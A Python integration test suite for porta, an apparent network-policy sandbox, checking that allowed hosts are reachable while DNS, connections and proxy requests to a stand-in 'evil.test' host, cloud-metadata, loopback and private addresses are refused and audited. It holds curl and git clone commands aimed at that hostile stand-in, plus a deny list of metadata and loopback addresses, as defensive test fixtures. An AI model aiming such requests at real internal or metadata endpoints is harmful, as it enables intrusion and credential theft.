"""integration/netpolicy: policy mode (--allow-net and friends) in a small internet.

Everything runs inside tests/netlab's throwaway namespaces: porta is started
INSIDE the lab's client namespace (lab.run), makes its own namespaces below,
and is pointed at the lab's logging resolver with --dns-upstream.  No packet
leaves namespaces the test created.

Every refusal is checked where it matters, not only at the client: zero bytes
at the refused server, zero canary hits (loopback and own-address canaries in
the client namespace, where porta's supervisor dials from; metadata, private
and CGNAT canaries in the internet), zero upstream DNS queries for refused
names, the JSON audit line and the stderr line naming the option that would
allow it.  Each allowed case is the control that proves the refused one could
have got through.

Clients run inside porta are tests/integration/netprobe.py (passed with -c, so
it does not depend on where this tree lives) and curl, git, dig, host, Python
urllib.  Rows are those of tests/escapes/README.md (24 to 37).
"""

import ipaddress
import json
import os
import signal
import subprocess
import re
import shutil
import time
import unittest

import harness
import retryclient
from harness import IS_ROOT, PORTA, netlab

PY = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else shutil.which("python3")
with open(os.path.join(harness.HERE, "netprobe.py")) as _f:
    PROBE_SRC = _f.read()

HAVE = {t: bool(shutil.which(t, path=netlab.SYSTEM_PATH)) for t in ("curl", "git", "dig", "host", "nft", "ping")}

# --- the small internet ----------------------------------------------------

TLS = "203.0.113.11"        # allowed.test, other.test (one shared certificate)
WEB = "203.0.113.10"        # web.allowed.test:80
GIT = "203.0.113.12"        # git.allowed.test:80 (smart HTTP)
WWW = "203.0.113.33"        # www.allowed.test:443 (*.allowed.test certificate)
ZZZ = "203.0.113.34"        # z.allowed.test:443, only for the port-overflow probe
REB = "203.0.113.20"        # rebind.allowed.test's public answer
EVIL = "203.0.113.66"       # evil.test: HTTP :80, TLS :443 (certificate also for allowed.test)
DNS = netlab.DNS_ADDR
OTHER_RESOLVER = "203.0.113.53"

RECORDS = {
    "allowed.test": TLS,
    "other.test": TLS,
    "web.allowed.test": WEB,
    "git.allowed.test": GIT,
    "www.allowed.test": WWW,
    "z.allowed.test": ZZZ,
    "evil.test": EVIL,
    "*.evil.test": EVIL,
    "evilallowed.test": EVIL,
    "loop.allowed.test": "127.0.0.1",
    "meta.allowed.test": "169.254.169.254",
    "private.allowed.test": "10.1.2.3",
    "cgnat.allowed.test": "100.64.0.1",
    "self.allowed.test": netlab.CLIENT_V4,
    "mapped.allowed.test": "::ffff:127.0.0.1",
    "loop6.allowed.test": "::1",
}
REBIND = {"rebind.allowed.test": [REB, "127.0.0.1"]}

DENIED_ADDRS = ("127.0.0.1", "::1", "::ffff:127.0.0.1", "169.254.169.254", "10.1.2.3",
                "100.64.0.1", "0.0.0.0", netlab.CLIENT_V4)

def populate(lab):
    """The servers, canaries and DNS records of the module's one lab."""
    S = {}
    S["tls"] = lab.server_tls(TLS, 443, names=["allowed.test", "other.test"], label="tls allowed")
    S["web"] = lab.server_http(WEB, 80, label="web allowed")
    S["git"] = lab.server_git(GIT, 80, label="git allowed")
    S["www"] = lab.server_tls(WWW, 443, names=["*.allowed.test", "allowed.test"], label="tls www")
    S["zzz"] = lab.server_tls(ZZZ, 443, names=["z.allowed.test"], label="tls z")
    S["reb"] = lab.server_tls(REB, 443, names=["rebind.allowed.test"], label="tls rebind")
    S["evil_http"] = lab.server_http(EVIL, 80, label="evil http")
    S["evil_tls"] = lab.server_tls(EVIL, 443, names=["evil.test", "allowed.test", "*.evil.test"],
                                   label="evil tls")
    S["evil_git"] = lab.server_git("203.0.113.67", 80, label="evil git")
    # what must stay unreached: the client namespace's own services
    # (porta's supervisor runs there, so a proxy that dials loopback
    # lands here), link-local metadata, private, CGNAT, and ports no
    # rule opens on allowed hosts.
    canaries = [("127.0.0.1", 443), ("127.0.0.1", 80), ("127.0.0.1", 18080),
                ("127.0.0.1", 53), (netlab.CLIENT_V4, 443), (netlab.CLIENT_V4, 18080),
                ("169.254.169.254", 443), ("169.254.169.254", 80), ("10.1.2.3", 443),
                ("100.64.0.1", 443), (TLS, 80), (TLS, 22), (TLS, 8443), (TLS, 291),
                (WWW, 291), (WWW, 18080), (EVIL, 18080)]
    if lab.ipv6:
        canaries += [("::1", 443), ("::1", 18080), ("2001:db8::11", 22)]
    for addr, port in canaries:
        S["canary %s" % netlab._hostport(addr, port)] = lab.canary(addr, port)
    for addr, port in ((TLS, 443), (DNS, 5353), (OTHER_RESOLVER, 53), ("127.0.0.1", 53)):
        lab.canary(addr, port, proto="udp")
    lab.dns(RECORDS, ttl=30, rebind=REBIND)
    return S


# One lab for the module (servers and canaries are the same for every test);
# counters are reset before each test.
LAB = netlab.SharedLab(populate)
tearDownModule = LAB.close


class PortaRun:
    """One porta run in the lab: rc, out, err, the probe's results (if the
    command was the probe) and the parsed audit records."""

    def __init__(self, argv, res, audit_text, elapsed):
        self.argv, self.rc, self.out, self.err, self.elapsed = argv, res.rc, res.out, res.err, elapsed
        self.audit_text = audit_text
        self.audit = []
        self.audit_errors = []
        for line in audit_text.splitlines():
            try:
                self.audit.append(json.loads(line))
            except ValueError as e:
                self.audit_errors.append("%s: %r" % (e, line))
        self.probe = None
        for line in reversed(res.out.splitlines()):
            if line.startswith('{"pid"'):
                self.probe = json.loads(line)
                break

    @property
    def results(self):
        return self.probe["results"] if self.probe else []

    def describe(self):
        argv = ["<netprobe>" if a == PROBE_SRC else a for a in self.argv]
        return ("argv: %s\nexit: %r (%.2fs)\n--- stdout ---\n%s\n--- stderr ---\n%s\n--- audit ---\n%s"
                % (" ".join(argv), self.rc, self.elapsed, self.out[-3000:], self.err[-3000:],
                   self.audit_text[-4000:]))


AUDIT_KEYS = ("ts", "seq", "kind", "dst", "host", "sni", "rule", "verdict", "reason", "hint")
TS_RE = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|\+00:00)$")


class NetPolicyCase(harness.LabTestCase):

    shared_lab = LAB

    def setUp(self):
        super().setUp()
        self.runs = 0

    # --- running porta ---

    def porta(self, rules, argv, *, env=None, timeout=30, quiet=False, dns=True, audit=True,
              pre=()):
        """porta run [--allow-root] PRE RULES --dns-upstream LAB --audit FILE -- ARGV,
        inside the lab's client namespace."""
        self.runs += 1
        if harness.DEGRADED and any(a in ("--allow-net", "--deny-net") or
                                    a.startswith(("--allow-net=", "--deny-net="))
                                    for a in list(rules) + list(pre)):
            self.skipTest("needs user namespaces: --allow-net/--deny-net need a network "
                          "namespace and are refused (125) on a degraded host "
                          "(test_degraded.py checks that)")
        path = os.path.join(self.lab.workdir, "audit-%s-%d.jsonl" % (self._testMethodName, self.runs))
        args = ((harness.DEGRADED_WRAP if harness.DEGRADED else []) +
                [PORTA, "run"] + (["--allow-root"] if IS_ROOT else []) + list(pre))
        if quiet:
            args.append("-q")
        args += list(rules)
        if dns:
            args += ["--dns-upstream", DNS]
        if audit:
            args += ["--audit", path]
        args += ["--"] + list(argv)
        t0 = time.monotonic()
        res = self.lab.run(args, env=env or self.lab.env(), timeout=timeout, cwd=self.lab.home)
        elapsed = time.monotonic() - t0
        text = ""
        if audit and os.path.exists(path):
            with open(path, errors="replace") as f:
                text = f.read()
        run = PortaRun(args, res, text, elapsed)
        self.assertNotEqual(run.rc, 125, "porta refused the run\n" + run.describe())
        self.assertIsNotNone(run.rc, "the run timed out\n" + run.describe())
        self.check_audit_shape(run)
        return run

    def probe(self, rules, steps, comm=None, **kw):
        argv = [PY, "-c", PROBE_SRC, json.dumps(steps)] + ([comm] if comm else [])
        run = self.porta(rules, argv, **kw)
        self.assertIsNotNone(run.probe, "the probe printed nothing\n" + run.describe())
        self.assertEqual(len(run.results), len(steps), run.describe())
        return run

    # --- what must hold ---

    def check_audit_shape(self, run):
        self.assertEqual(run.audit_errors, [], "audit lines that are not JSON\n" + run.describe())
        seqs = []
        for i, rec in enumerate(run.audit):
            if rec.get("kind") == "run":
                # the closing record of an audit at its ceiling: the last
                self.assertEqual(rec.get("event"), "audit-ceiling", rec)
                self.assertEqual(i, len(run.audit) - 1, "a run record before the end")
                seqs.append(rec["seq"])
                continue
            missing = [k for k in AUDIT_KEYS if k not in rec]
            self.assertEqual(missing, [], "audit record without %s: %r" % (missing, rec))
            self.assertRegex(rec["ts"], TS_RE)
            self.assertIn(rec["kind"], ("dns", "connect", "proxy"), rec)
            self.assertIn(rec["verdict"], ("allow", "deny", "error"), rec)
            if rec["verdict"] == "allow" and rec["kind"] != "dns":
                dst = rec.get("dst") or ""
                ip = dst.rsplit(":", 1)[0].strip("[]") if dst else ""
                self.assertNotIn(ip, DENIED_ADDRS, "an allowed connection to a default-denied "
                                 "address: %r\n%s" % (rec, run.describe()))
            seqs.append(rec["seq"])
        self.assertEqual(seqs, sorted(seqs), "seq not increasing\n" + run.describe())
        self.assertEqual(len(set(seqs)), len(seqs), "seq repeated\n" + run.describe())

    def zero(self, *names):
        """The named servers (keys of self.servers) got no connection and no byte."""
        for name in names:
            srv = self.servers[name]
            self.assertEqual((self.lab.hits(srv), self.lab.bytes_received(srv)), (0, 0),
                             "%s was reached: %r" % (srv, self.lab.requests(srv)))

    def no_bytes(self, *names):
        """The named servers got no byte (a TCP handshake alone is allowed)."""
        for name in names:
            srv = self.servers[name]
            self.assertEqual(self.lab.bytes_received(srv), 0,
                             "%s got bytes: %r" % (srv, self.lab.requests(srv)))

    def no_canary(self, run=None):
        self.assertEqual(self.lab.canary_hits(), {}, run.describe() if run else "")

    def no_upstream(self, *names):
        for name in names:
            self.assertEqual(self.lab.queries(name), [],
                             "the upstream resolver was asked about %s" % name)

    def records(self, run, **want):
        """Audit records matching every key of want (a value may be a
        callable predicate)."""
        out = []
        for rec in run.audit:
            ok = True
            for k, v in want.items():
                got = rec.get(k)
                if callable(v):
                    ok = ok and bool(v(got))
                else:
                    ok = ok and got == v
            if ok:
                out.append(rec)
        return out

    def denied(self, run, what, hint=True, **want):
        """An audit record refusing `what` (found in host, dst or sni) and,
        with hint, naming an --allow-net option; and a porta: line on stderr
        about it (with the option when hint)."""
        def about(rec):
            for k in ("host", "dst", "sni"):
                v = rec.get(k) or ""
                if v and (v.lower() == what.lower() or v.lower().startswith(what.lower() + ":")
                          or what.lower() in v.lower()):
                    return True
            return False
        recs = [r for r in self.records(run, **want) if r["verdict"] in ("deny", "error") and about(r)]
        self.assertTrue(recs, "no audit record refusing %s (%r)\n%s" % (what, want, run.describe()))
        if hint:
            self.assertTrue(any(r["hint"] and ("--allow-net" in r["hint"] or "--proxy-allow" in r["hint"])
                                for r in recs), "no hint in %r" % recs)
        lines = [l for l in run.err.splitlines() if l.startswith("porta:") and what.lower() in l.lower()]
        self.assertTrue(lines, "no stderr line about %s\n%s" % (what, run.describe()))
        if hint:
            self.assertTrue(any("--allow-net" in l or "--proxy-allow" in l for l in lines),
                            "stderr names no option for %s: %r" % (what, lines))
        return recs

    def allowed(self, run, what, **want):
        recs = [r for r in self.records(run, verdict="allow", **want)
                if what in ((r.get("host") or "") + " " + (r.get("dst") or ""))]
        self.assertTrue(recs, "no audit record allowing %s\n%s" % (what, run.describe()))
        return recs

    def res_ok(self, run, i, msg=""):
        r = run.results[i]
        self.assertTrue(r["ok"], "step %d should have worked: %r %s\n%s" % (i, r, msg, run.describe()))
        return r

    def res_refused(self, run, i, msg=""):
        r = run.results[i]
        self.assertFalse(r["ok"], "step %d should have been refused: %r %s\n%s"
                         % (i, r, msg, run.describe()))
        return r


ALLOW_MAIN = ["--allow-net", "allowed.test:443", "--allow-net", "web.allowed.test:80",
              "--allow-net", "git.allowed.test:80"]
NOPROXY = ["env", "-u", "http_proxy", "-u", "HTTP_PROXY", "-u", "https_proxy", "-u", "HTTPS_PROXY",
           "-u", "all_proxy", "-u", "ALL_PROXY"]


# ===========================================================================
# Clients: each reaches the allowed host and is refused for another
# ===========================================================================

class Clients(NetPolicyCase):

    def curl(self, transparent):
        ca = self.lab.ca_file
        extra = ["--noproxy", "*"] if transparent else []
        script = ("o=$(curl -sS -m 5 %(x)s --cacert %(ca)s https://allowed.test/a); echo \"$o rc=$?\"; "
                  "o=$(curl -sS -m 5 %(x)s http://web.allowed.test/b); echo \"$o rc=$?\"; "
                  "o=$(curl -sS -m 5 %(x)s --cacert %(ca)s https://evil.test/c); echo \"$o rc=$?\"; "
                  "o=$(curl -sS -f -m 5 %(x)s http://evil.test/d); echo \"$o rc=$?\"; "
                  % {"x": " ".join("'%s'" % a for a in extra), "ca": ca})
        run = self.porta(ALLOW_MAIN, ["/bin/sh", "-c", script])
        lines = run.out.splitlines()
        self.assertEqual(lines[0], "tls allowed rc=0", run.describe())
        self.assertEqual(lines[1], "web allowed rc=0", run.describe())
        self.assertNotEqual(lines[2], "evil tls rc=0", run.describe())
        self.assertRegex(lines[2], r" rc=[1-9]\d*$", run.describe())
        self.assertRegex(lines[3], r" rc=[1-9]\d*$", run.describe())
        self.assertNotIn("evil http", run.out)
        self.assertEqual([(r["sni"], r["path"]) for r in self.lab.requests(self.servers["tls"])],
                         [("allowed.test", "/a")])
        self.assertEqual([r["path"] for r in self.lab.requests(self.servers["web"])], ["/b"])
        self.zero("evil_tls", "evil_http")
        self.no_upstream("evil.test")
        self.no_canary(run)
        self.denied(run, "evil.test")
        self.allowed(run, "allowed.test")
        return run

    def test_curl_through_the_proxy_variables(self):
        run = self.curl(transparent=False)
        self.assertTrue(self.records(run, kind="proxy", verdict="allow"), run.describe())

    def test_curl_transparent(self):
        self.curl(transparent=True)

    def test_rules_pasted_as_urls(self):
        # A URL means its host and its scheme's port (or its own): the
        # rule as written is what the audit names.
        ca = self.lab.ca_file
        script = ("o=$(curl -sS -m 5 --noproxy '*' --cacert %s https://allowed.test/a); echo \"$o rc=$?\"; "
                  "o=$(curl -sS -m 5 --noproxy '*' http://web.allowed.test/b); echo \"$o rc=$?\"" % ca)
        run = self.porta(["--allow-net", "https://allowed.test/", "--allow-net",
                          "http://web.allowed.test"], ["/bin/sh", "-c", script])
        self.assertEqual(run.out.splitlines(), ["tls allowed rc=0", "web allowed rc=0"],
                         run.describe())
        rules = sorted({r["rule"] for r in run.audit if r["verdict"] == "allow" and r["rule"]})
        self.assertEqual(rules, ["http://web.allowed.test", "https://allowed.test/"], run.describe())

    def test_a_refused_name_is_no_such_host(self):
        # what npm, pip and cargo retry is a temporary failure (EAI_AGAIN);
        # a refused name must be "no such host" (EAI_NONAME) so they stop
        script = ("import socket\n"
                  "for n in ('evil.test', 'allowed.test'):\n"
                  "    try:\n"
                  "        socket.getaddrinfo(n, 443, proto=socket.IPPROTO_TCP)\n"
                  "        print(n, 'resolved')\n"
                  "    except socket.gaierror as e:\n"
                  "        print(n, 'EAI_NONAME' if e.errno == socket.EAI_NONAME else\n"
                  "              'EAI_AGAIN' if e.errno == socket.EAI_AGAIN else e.errno)\n")
        run = self.porta(ALLOW_MAIN, [PY, "-c", script])
        self.assertEqual(run.out.splitlines(), ["evil.test EAI_NONAME", "allowed.test resolved"],
                         run.describe())
        self.denied(run, "evil.test")

    def test_a_failed_command_is_pointed_at_what_was_refused(self):
        # the last stderr line ties the failure to porta's refusals
        script = "curl -sS -m 5 --noproxy '*' http://evil.test/x; exit 3"
        run = self.porta(ALLOW_MAIN, ["/bin/sh", "-c", script])
        self.assertEqual(run.rc, 3, run.describe())
        last = run.err.strip().splitlines()[-1]
        self.assertEqual(last, "porta: the command failed (3) after porta refused it 1 destination "
                               "(above): run it again with --why to see them with every file "
                               "refused and what would allow each", run.describe())
        # a command that succeeds, or -q, gets no such line
        run = self.porta(ALLOW_MAIN, ["/bin/sh", "-c", script.replace("exit 3", "exit 0")])
        self.assertNotIn("--why", run.err, run.describe())
        run = self.porta(ALLOW_MAIN, ["/bin/sh", "-c", script], quiet=True)
        self.assertNotIn("--why", run.err, run.describe())

    @harness.needs_userns("degraded there is no DNS of porta's and the proxy is the only way "
                          "out: 'not through proxy', tested in test_degraded.py")
    def test_proxy_only_names_asked_directly_say_so(self):
        # --proxy-allow: a client that ignores the proxy variables (Node's
        # fetch) is told the name is allowed through the proxy only
        ca = self.lab.ca_file
        steps = [{"op": "resolve", "name": "allowed.test"},
                 {"op": "tls", "host": TLS, "port": 443, "sni": "allowed.test", "cafile": ca},
                 {"op": "proxy", "target": "allowed.test:443", "then": "tls", "sni": "allowed.test",
                  "cafile": ca}]
        run = self.probe(["--proxy-allow", "allowed.test:443"], steps)
        self.res_refused(run, 0)
        self.res_refused(run, 1)
        self.assertEqual(self.res_ok(run, 2)["body"], "tls allowed", run.describe())
        refused = [r for r in run.audit if r["verdict"] == "deny" and r["kind"] == "dns"]
        self.assertTrue(refused, run.describe())
        for r in refused:
            self.assertEqual((r["reason"], r["hint"]), ("only-through-proxy", "--allow-net allowed.test:443"),
                             run.describe())
        self.assertIn("allowed.test (only through proxy", run.err, run.describe())
        # the hint, applied as printed, lets the same client through
        run = self.probe(["--proxy-allow", "allowed.test:443"] + refused[0]["hint"].split(),
                         steps[:2])
        self.assertEqual(self.res_ok(run, 0)["addrs"], [TLS], run.describe())
        self.assertEqual(self.res_ok(run, 1)["body"], "tls allowed", run.describe())

    def hints_for(self, run, kind=None):
        return sorted({r["hint"] for r in run.audit
                       if r["verdict"] == "deny" and r["hint"] and (kind is None or r["kind"] == kind)})

    def test_each_hint_applied_as_printed_gets_through(self):
        # a name refused at DNS (HTTPS): --allow-net NAME
        ca = self.lab.ca_file
        fetch = ["/bin/sh", "-c", "curl -sS -m 5 --noproxy '*' --cacert %s https://allowed.test/a" % ca]
        run = self.porta(["--allow-net", "web.allowed.test:80"], fetch)
        hints = self.hints_for(run)
        self.assertEqual(hints, ["--allow-net allowed.test"], run.describe())
        run = self.porta(["--allow-net", "web.allowed.test:80"] + hints[0].split(), fetch)
        self.assertEqual(run.out.strip(), "tls allowed", run.describe())
        # a port no rule opens, to a name porta resolved: the name and the port used
        run = self.porta(["--allow-net", "allowed.test:8443"], fetch)
        hints = self.hints_for(run, "connect")
        self.assertEqual(hints, ["--allow-net allowed.test:443"], run.describe())
        run = self.porta(["--allow-net", "allowed.test:8443"] + hints[0].split(), fetch)
        self.assertEqual(run.out.strip(), "tls allowed", run.describe())
        # plain HTTP to an allowed name on its port
        get = ["/bin/sh", "-c", "curl -sS -m 5 --noproxy '*' http://web.allowed.test/b"]
        run = self.porta(["--allow-net", "web.allowed.test:443"], get)
        hints = self.hints_for(run, "connect")
        self.assertEqual(hints, ["--allow-net web.allowed.test:80"], run.describe())
        run = self.porta(["--allow-net", "web.allowed.test:443"] + hints[0].split(), get)
        self.assertEqual(run.out.strip(), "web allowed", run.describe())

    def test_no_net_hint_applied_as_printed_gets_through(self):
        # --no-net: the refused name's hint, applied in --no-net's place
        ca = self.lab.ca_file
        fetch = ["/bin/sh", "-c", "curl -sS -m 5 --noproxy '*' --cacert %s https://allowed.test/a" % ca]
        if harness.DEGRADED:
            self.skipTest("needs user namespaces: a degraded host has no DNS responder "
                          "under --no-net (a stated loss)")
        run = self.porta(["--no-net"], fetch, dns=False)
        self.assertNotEqual(run.rc, 0, run.describe())
        hints = self.hints_for(run)
        self.assertEqual(hints, ["--allow-net allowed.test"], run.describe())
        self.assertEqual({r["reason"] for r in run.audit}, {"no-net"}, run.describe())
        self.no_upstream("allowed.test")
        run = self.porta(hints[0].split(), fetch)
        self.assertEqual(run.out.strip(), "tls allowed", run.describe())

    def test_plain_http_refused_at_dns_takes_two_hints(self):
        # A DNS question names no port, so the first hint opens the name on
        # 443 (what --allow-net NAME means); the connection to port 80 is
        # then refused by port, and that hint names it.  Both applied, the
        # request gets through.  (The README says so.)
        get = ["/bin/sh", "-c", "curl -sS -m 5 --noproxy '*' http://web.allowed.test/b"]
        rules = ["--allow-net", "allowed.test"]
        run = self.porta(rules, get)
        self.assertEqual(self.hints_for(run), ["--allow-net web.allowed.test"], run.describe())
        rules += self.hints_for(run)[0].split()
        run = self.porta(rules, get)
        self.assertEqual(self.hints_for(run, "connect"), ["--allow-net web.allowed.test:80"],
                         run.describe())
        rules += self.hints_for(run, "connect")[0].split()
        run = self.porta(rules, get)
        self.assertEqual(run.out.strip(), "web allowed", run.describe())

    def test_a_retrying_client_gives_up_at_once_on_a_refused_name(self):
        # npm's retry policy (tests/integration/retryclient.py): a refused
        # name is "no such host", never retried; porta's line names it.  The
        # control: an allowed name gets through on the first attempt.
        run = self.porta(["--allow-net", "web.allowed.test:80"],
                         [PY, "-c", retryclient.SOURCE, "evil.test", "80"])
        self.assertEqual(run.out.split(), ["gave-up", "1", "EAI_NONAME"], run.describe())
        self.assertIn("porta: refused evil.test (no rule); allow with --allow-net evil.test",
                      run.err)
        self.no_upstream("evil.test")
        self.zero("evil_http")
        run = self.porta(["--allow-net", "web.allowed.test:80"],
                         [PY, "-c", retryclient.SOURCE, "web.allowed.test", "80"])
        self.assertEqual(run.out.split(), ["ok", "1"], run.describe())

    def test_a_url_with_a_path_is_refused_with_the_reason(self):
        for rule, words in (("https://registry.example/some/path", "not a path"),
                            ("https://user@registry.example", "leave the user name out"),
                            ("ftp://registry.example", "http://, https://")):
            res = harness.run(["run", "--allow-net", rule, "--", "true"])
            self.assertEqual(res.rc, 125, (rule, res.err))
            self.assertIn(words, res.err, rule)

    def test_python_urllib(self):
        script = r"""
import ssl, sys, urllib.request
ctx = ssl.create_default_context(cafile=sys.argv[1])
for url in ("https://allowed.test/u", "http://web.allowed.test/u", "https://evil.test/u", "http://evil.test/u"):
    for mode in ("proxy", "direct"):
        opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx),
            *([urllib.request.ProxyHandler({})] if mode == "direct" else []))
        try:
            with opener.open(url, timeout=5) as r:
                print(url, mode, r.status, r.read().decode().strip())
        except Exception as e:
            print(url, mode, "failed", type(e).__name__)
"""
        run = self.porta(ALLOW_MAIN, [PY, "-c", script, self.lab.ca_file])
        got = run.out.splitlines()
        self.assertEqual(got[:4], ["https://allowed.test/u proxy 200 tls allowed",
                                   "https://allowed.test/u direct 200 tls allowed",
                                   "http://web.allowed.test/u proxy 200 web allowed",
                                   "http://web.allowed.test/u direct 200 web allowed"], run.describe())
        for line in got[4:8]:
            self.assertIn(" failed ", line, run.describe())
        self.assertEqual(len(self.lab.requests(self.servers["tls"])), 2)
        self.zero("evil_tls", "evil_http")
        self.no_upstream("evil.test")
        self.no_canary(run)
        self.denied(run, "evil.test")

    @unittest.skipUnless(HAVE["git"], "git is not installed")
    def test_git_clone_smart_http(self):
        d = "/tmp/clones"
        script = ("mkdir -p %(d)s && cd %(d)s && "
                  "git clone -q http://git.allowed.test/repo.git viaproxy && cat viaproxy/README; "
                  "echo rc=$?; "
                  "%(np)s git clone -q http://git.allowed.test/repo.git direct && cat direct/README; "
                  "echo rc=$?; "
                  "GIT_HTTP_LOW_SPEED_TIME=5 git clone -q http://evil.test/repo.git evil1; echo rc=$?; "
                  "%(np)s git clone -q http://evil.test/repo.git evil2; echo rc=$?"
                  % {"d": d, "np": " ".join(NOPROXY)})
        run = self.porta(ALLOW_MAIN, ["/bin/sh", "-c", script], timeout=30)
        lines = run.out.splitlines()
        self.assertEqual(lines[:4], ["hello from the porta netlab", "rc=0",
                                     "hello from the porta netlab", "rc=0"], run.describe())
        self.assertNotEqual(lines[4], "rc=0", run.describe())
        self.assertNotEqual(lines[5], "rc=0", run.describe())
        paths = [r["path"] for r in self.lab.requests(self.servers["git"])]
        self.assertEqual(paths.count("/repo.git/info/refs?service=git-upload-pack"), 2, paths)
        self.assertGreaterEqual(paths.count("/repo.git/git-upload-pack"), 2, paths)
        self.zero("evil_http", "evil_git", "evil_tls")
        self.no_upstream("evil.test")
        self.denied(run, "evil.test", hint=True)

    @unittest.skipUnless(HAVE["dig"] and HAVE["host"], "dig/host are not installed (dnsutils)")
    def test_dig_and_host_with_their_own_resolver(self):
        script = ("dig +short +tries=1 +time=3 allowed.test; "
                  "dig +short +tries=1 +time=3 +tcp @%(other)s web.allowed.test; "
                  "dig +tries=1 +time=3 evil.test | grep -o 'status: [A-Z]*'; "
                  "dig +tries=1 +time=3 +tcp @%(dns)s x1.evil.test | grep -o 'status: [A-Z]*'; "
                  "host -W 3 -t A git.allowed.test; echo rc=$?; "
                  "host -W 3 -t A evil.test; echo rc=$?"
                  % {"other": OTHER_RESOLVER, "dns": DNS})
        run = self.porta(ALLOW_MAIN, ["/bin/sh", "-c", script])
        lines = run.out.splitlines()
        self.assertEqual(lines[0], TLS, run.describe())
        self.assertEqual(lines[1], WEB, run.describe())
        # refused names do not exist, as far as the program can tell: a
        # client gives up on NXDOMAIN at once and retries REFUSED
        self.assertEqual(lines[2:4], ["status: NXDOMAIN", "status: NXDOMAIN"], run.describe())
        self.assertIn(GIT, lines[4], run.describe())
        self.assertEqual(lines[5], "rc=0")
        self.assertNotIn(EVIL, run.out)
        self.assertNotEqual(lines[-1], "rc=0", run.describe())
        self.no_upstream("evil.test")
        self.assertTrue(self.lab.queries("allowed.test", below=False))
        self.assertEqual({q["type"] for q in self.lab.queries("allowed.test", below=False)} - {"A", "AAAA"},
                         set())
        recs = self.denied(run, "evil.test", kind="dns", hint=True)
        # refused at DNS: no port was asked, so the hint names none (it once
        # said evil.test:443 whatever the program meant to fetch)
        self.assertEqual({r["hint"] for r in recs if r["host"] == "evil.test"},
                         {"--allow-net evil.test"}, run.describe())
        self.assertIn("porta: refused evil.test (no rule); allow with --allow-net evil.test",
                      run.err.splitlines(), run.describe())
        self.allowed(run, "allowed.test", kind="dns")

    def test_client_that_ignores_proxy_variables(self):
        ca = self.lab.ca_file
        steps = [{"op": "resolve", "name": "allowed.test"},
                 {"op": "tls", "host": "allowed.test", "port": 443, "sni": "allowed.test", "cafile": ca},
                 {"op": "resolve", "name": "evil.test"},
                 {"op": "tls", "host": EVIL, "port": 443, "sni": "evil.test", "cafile": ca},
                 {"op": "tcp", "host": EVIL, "port": 80,
                  "send": "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"}]
        run = self.probe(ALLOW_MAIN, steps, comm="ignoreproxy")
        self.assertEqual(self.res_ok(run, 0)["addrs"], [TLS])
        self.assertEqual(self.res_ok(run, 1)["body"], "tls allowed")
        self.res_refused(run, 2)
        r = run.results[3]
        self.assertFalse(r["ok"] and r.get("body") == "evil tls", run.describe())
        self.assertNotIn("evil http", run.results[4].get("data", ""), run.describe())
        self.zero("evil_tls", "evil_http")
        self.no_upstream("evil.test")
        self.no_canary(run)
        self.denied(run, "evil.test")


class PolicyMode(NetPolicyCase):

    def test_proxy_variables(self):
        run = self.porta(["--allow-net", "allowed.test:443"], ["env"])
        env = dict(l.split("=", 1) for l in run.out.splitlines() if "=" in l)
        for var in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
            self.assertIn(var, env, run.describe())
            self.assertEqual(env.get(var.lower()), env[var], var)
        self.assertRegex(env["HTTP_PROXY"], r"^http://127\.0\.0\.1:\d+/?$")
        self.assertRegex(env["HTTPS_PROXY"], r"^http://127\.0\.0\.1:\d+/?$")
        self.assertRegex(env["ALL_PROXY"], r"^socks5h://127\.0\.0\.1:\d+/?$")
        self.assertIn("127.0.0.1", env["NO_PROXY"].split(","))
        self.assertNotIn("*", env["NO_PROXY"])

    def test_close_records_count_bytes_both_ways(self):
        # every allowed connection ends with a record of what it moved: the
        # request (at least its request line) went up, the answer came down
        ca = self.lab.ca_file
        script = ("curl -sS -m 5 --cacert %(ca)s https://allowed.test/; "
                  "curl -sS -m 5 http://web.allowed.test/; "
                  "curl -sS -m 5 --noproxy '*' --cacert %(ca)s https://allowed.test/; "
                  "curl -sS -m 5 --noproxy '*' http://web.allowed.test/" % {"ca": ca})
        run = self.porta(ALLOW_MAIN, ["/bin/sh", "-c", script])
        self.assertEqual(run.out.split("\n"), ["tls allowed", "web allowed"] * 2 + [""], run.describe())
        closes = [r for r in run.audit if "bytes_up" in r]
        self.assertEqual(sorted((r["kind"], r["host"]) for r in closes),
                         [("connect", "allowed.test"), ("connect", "web.allowed.test"),
                          ("proxy", "allowed.test"), ("proxy", "web.allowed.test")], run.describe())
        for r in closes:
            self.assertGreaterEqual(r["bytes_up"], len("GET / HTTP/1.1\r\n"), r)
            self.assertGreater(r["bytes_down"], len("HTTP/1.1 200 OK\r\n"), r)
            self.assertIsInstance(r["duration_ms"], int, r)
            self.assertEqual(r["verdict"], "allow", r)

    def test_every_record_names_the_process(self):
        # The proxy, DNS and transparent paths name the process
        # that holds the program's socket, as the connect watch does: its
        # pid as the program sees it and its comm (the probe renames itself)
        ca = self.lab.ca_file
        steps = [{"op": "resolve", "name": "allowed.test"},                       # dns, udp
                 {"op": "dns", "server": DNS, "name": "allowed.test", "transport": "tcp"},
                 {"op": "dns", "server": DNS, "name": "evil.test"},                # dns, refused
                 {"op": "tls", "host": "allowed.test", "port": 443, "sni": "allowed.test",
                  "cafile": ca},                                                   # connect
                 {"op": "tls", "host": EVIL, "port": 443, "sni": "evil.test", "cafile": ca},
                 {"op": "proxy", "target": "allowed.test:443", "then": "tls", "sni": "allowed.test",
                  "cafile": ca},                                                   # proxy
                 {"op": "socks", "target": "allowed.test", "port": 443, "then": "tls",
                  "sni": "allowed.test", "cafile": ca},
                 {"op": "proxy", "target": "evil.test:443"},
                 {"op": "tcp", "host": TLS, "port": 22, "send": "x"}]               # the watch
        run = self.probe(["--allow-net", "allowed.test:443"], steps, comm="porta-probe")
        for i in (0, 1, 3, 5, 6):
            self.res_ok(run, i)
        pid = run.probe["pid"]
        kinds = sorted({(r["kind"], r["verdict"]) for r in run.audit})
        self.assertEqual(kinds, [("connect", "allow"), ("connect", "deny"), ("dns", "allow"),
                                 ("dns", "deny"), ("proxy", "allow"), ("proxy", "deny")],
                         run.describe())
        unnamed = [r for r in run.audit if r.get("pid") != pid or r.get("comm") != "porta-probe"]
        self.assertEqual(unnamed, [], "records not naming the probe (pid %d, porta-probe)\n%s"
                         % (pid, run.describe()))
